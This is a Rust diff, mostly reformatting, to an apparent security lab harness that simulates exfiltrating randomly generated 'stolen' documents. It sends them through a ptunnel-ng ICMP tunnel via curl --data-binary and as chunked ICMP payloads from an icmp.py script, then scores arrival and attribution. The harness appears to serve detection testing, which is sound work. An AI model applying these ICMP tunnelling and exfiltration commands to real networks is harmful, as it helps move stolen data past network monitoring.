@@ -22,14 +22,27 @@ pub(in crate::lab) fn ptunnel(scene: &Scene<'_>, random: &mut Random) -> Result<
     scene.internet().sysctl("net.ipv4.icmp_echo_ignore_all", "1")?;
     let _server = scene.internet().spawn("ptunnel-ng", ["-r127.0.0.1", &format!("-R{sink}")])?;
     let port = format!("-l{TUNNEL_PORT}");
-    let _client = scene.client().spawn("ptunnel-ng", [&format!("-p{TUNNEL_SERVER}"), &port, "-r127.0.0.1", &format!("-R{sink}")])?;
+    let _client = scene.client().spawn(
+        "ptunnel-ng",
+        [&format!("-p{TUNNEL_SERVER}"), &port, "-r127.0.0.1", &format!("-R{sink}")],
+    )?;
     wait_for_tcp_listener(scene.client(), TUNNEL_PORT, START)?;
     let body = format!("@{}", scene.document("stolen", &random.document(size))?);
     let url = format!("http://127.0.0.1:{TUNNEL_PORT}/up/tunnel");
-    scene.run("curl", &["--silent", "--show-error", "--output", "/dev/null", "--data-binary", &body, &url])?;
+    scene.run(
+        "curl",
+        &["--silent", "--show-error", "--output", "/dev/null", "--data-binary", &body, &url],
+    )?;
     ensure_arrived(size, scene.sunk_bytes("/up/tunnel")?)?;
-    let target = Target { host: TUNNEL_SERVER.to_owned(), address: TUNNEL_SERVER.parse().context("no address")? };
-    Ok(Outcome::stolen(scene.culprit(&target, "icmp", None)?, size, format!("{size} bytes through {TUNNEL_SERVER}")))
+    let target = Target {
+        host: TUNNEL_SERVER.to_owned(),
+        address: TUNNEL_SERVER.parse().context("no address")?,
+    };
+    Ok(Outcome::stolen(
+        scene.culprit(&target, "icmp", None)?,
+        size,
+        format!("{size} bytes through {TUNNEL_SERVER}"),
+    ))
 }
 
 /// Large payloads in quick succession.
@@ -46,23 +59,54 @@ pub(in crate::lab) fn slow_echo(scene: &Scene<'_>, random: &mut Random) -> Resul
     carry(scene, random, chunk, count, 11.0 / count as f64)
 }
 
-fn carry(scene: &Scene<'_>, random: &mut Random, chunk: usize, count: usize, pause_secs: f64) -> Result<Outcome> {
+fn carry(
+    scene: &Scene<'_>,
+    random: &mut Random,
+    chunk: usize,
+    count: usize,
+    pause_secs: f64,
+) -> Result<Outcome> {
     let target = scene.target(random)?;
     let family = if target.address.is_ipv6() { "6" } else { "4" };
     let got = scene.inbox("got").display().to_string();
-    let receiver = scene.start_script(scene.internet(), "icmp.py", &["receive".to_owned(), family.to_owned(), got.clone()])?;
+    let receiver = scene.start_script(
+        scene.internet(),
+        "icmp.py",
+        &["receive".to_owned(), family.to_owned(), got.clone()],
+    )?;
     receiver.wait_for_line("ready", START)?;
     let document = random.document(chunk * count);
     let file = scene.document("stolen", &document)?;
-    let arguments = ["send", &target.address.to_string(), &file, &chunk.to_string(), &pause_secs.to_string(), "1"].map(str::to_owned);
-    let mut sender = scene.start_script(scene.client(), "icmp.py", &arguments)?;
-    let status = sender.wait(START * 4)?;
-    ensure!(status.success(), "the sender ended with {status}: {}", sender.output());
+    let arguments = [
+        "send",
+        &target.address.to_string(),
+        &file,
+        &chunk.to_string(),
+        &pause_secs.to_string(),
+        "1",
+    ]
+    .map(str::to_owned);
+    scene.run_script("icmp.py", &arguments)?;
     // There is no repetition in this protocol: what the line loses is lost.
     let arrived = || fs::read(&got).unwrap_or_default();
     poll_until(Duration::from_secs(1), || (arrived() == document).then_some(())).ok();
-    let missing = document.chunks(chunk).zip(arrived().chunks(chunk)).filter(|(sent, found)| sent != found).count();
-    ensure!(missing * 20 <= count && arrived().len() + chunk * 3 >= document.len(), "{missing} of {count} payloads did not arrive");
-    let notes = format!("{count} payloads of {chunk} bytes, {:.0} ms apart, to {}", pause_secs * 1e3, target.host);
-    Ok(Outcome::stolen(scene.culprit(&target, "icmp", None)?, document.len() - missing * chunk, notes))
+    let missing = document
+        .chunks(chunk)
+        .zip(arrived().chunks(chunk))
+        .filter(|(sent, found)| sent != found)
+        .count();
+    ensure!(
+        missing * 20 <= count && arrived().len() + chunk * 3 >= document.len(),
+        "{missing} of {count} payloads did not arrive"
+    );
+    let notes = format!(
+        "{count} payloads of {chunk} bytes, {:.0} ms apart, to {}",
+        pause_secs * 1e3,
+        target.host
+    );
+    Ok(Outcome::stolen(
+        scene.culprit(&target, "icmp", None)?,
+        document.len() - missing * chunk,
+        notes,
+    ))
 }
